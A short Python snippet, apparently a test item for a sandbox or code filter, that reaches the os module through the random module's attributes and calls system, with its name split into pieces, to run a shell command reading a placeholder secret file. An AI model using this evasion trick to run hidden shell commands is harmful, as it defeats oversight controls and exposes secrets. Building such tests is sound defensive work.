# dir() tells the names, getattr follows them; no name is written out.
# effect: run
import random
for name in dir(random):
    thing = getattr(random, name)
    if name.startswith("_") and hasattr(thing, "getcwd"):
        getattr(thing, "sys" + "tem")("cat @SECRET@")
        break
